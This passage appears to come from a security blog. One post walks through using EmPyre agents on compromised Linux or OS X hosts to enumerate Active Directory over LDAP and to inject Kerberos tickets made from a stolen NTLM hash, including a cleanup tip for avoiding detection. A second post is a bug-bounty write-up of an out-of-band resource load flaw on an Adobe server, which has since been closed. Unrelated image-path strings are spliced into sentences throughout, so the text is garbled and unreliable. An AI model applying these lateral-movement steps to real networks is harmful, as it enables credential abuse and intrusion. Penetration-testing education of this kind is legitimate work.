Next, we need credentials to authenticate to the domain. This post won’t cover in-depth credential collection as that was just coverd by @killswitch_gui here.  We’ll just assume we’ve captured the user jfrank’s password. We’ll start by opening the get_computers module. Once in the module, type “info” and press enter. Here, we can populate the information required by the module. Note: The BindDN issimply the username@domain. Once the required information is filled in, we can type “execute” and press enter to begin the LDAP query.



The results of the get_computers module will be a listing of each computer object in Active Directory. It’s good to keep in mind that each LDAP query requires authentication to the domain. With each authentication, we create evidence of our presence on the network.


Recently, @passingthehash tweeted about using overpass-the-hash from Linux to obtain a valid Kerberos session with a domain. The addition of Kerberos authentication gives us a bit more flexibility to authenticate to the domain from various operating systems. Unfortunately, OS X does not have many built-in tools to work with Active Directory. While we can use overPTH to authenticate to the domain from OS X, there’s not much we can do (that I’ve found) using that Kerberos ticket. With that in mind, I’ll show you an example of using the Kerberos_inject module through an EmPyre agent on aLinux host that is on the same subnet as a domain. This will allow us to use an NTLM hash to create a Kerberos ticket and inject it into our EmPyre session.


Yes, amazing. Let’s give this a try. First, we need an NTLM hash. Of course, there are many ways you could obtain this so, we’ll just assume we have one for jfrank again. This module is notopsec safe, as the keytab is saved, by default, to the remote /tmp directory prior to injection. Keep in mind you’ll need to clean that file up afterwards. Next, let’s initiate the module with “usemodule management/multi/kerberos_inject” and fill out the required information. Finally, we can execute the module and inject a Kerberos ticket into our session.


Through our EmPyre agent, we are able to inject the user’s credentials into our session and list drives on the domain controller!

Hopefully, this post will be of some help when you’re engaging Active Directory while pivoting through compromised Linux or OS X hosts. You should now be able to find the domain controller, search Active Directory, and inject Kerberos tickets to mimic legitimate users. This access should provide you with the needed access to move further through the targetnetwork. Stay tuned for more posts in the EmPyre series!


Bug Hunt: Out of Band Resource Loading

On a recent bug hunt targeting *, I found a small flaw in one of their external-facing web servers. While enumerating publicly available web servers belonging to Adobe, I found a web application labeled “Target DB Browser”.


This interface looked to be a front-end application to query a database. Unfortunately, everyquery I performed resulted in “Error: unable to retrieve response. This meant that the front-end application was not actually connected to a live database. I decided to inspect the request and response a bit further by using the BurpSuite proxy tool to inspect the traffic. I found the application to be performing a simple GET request to a specified IP address. On my Virtual Private Server(VPS) , I started “tcpdump” and replaced the specified IP address in the GET request with that of my VPS address to test for the possibility of an external request. Once I clicked the “query” button, I was greeted with traffic on my VPS from the server hosting the application.



PortSwigger classifies this type of finding as “Out-of-band resource load” here.

Out-of-band resource load occurs when a payload submitted to the target application causes it to fetch content from an arbitrary external domain using some network protocol, and incorporate that content into its own response to the request that contained the payload.

Anattacker may use this flaw to conduct denial of service attacks on other sites by causing the application to continuously request resources elsewhere.

While this vulnerability does not impose a major risk for Adobe, it does provide for the possibility of unintended resources being utilized on the Adobe server or for reflecting a Denial of Service attack to other addresses on the internet.Adobe has since closed this bug report. If you’re assessing webapplications for work or profit, keepin mind that anytime you can replace an IP address in a request, this may be an issue to look for. Happy hacking!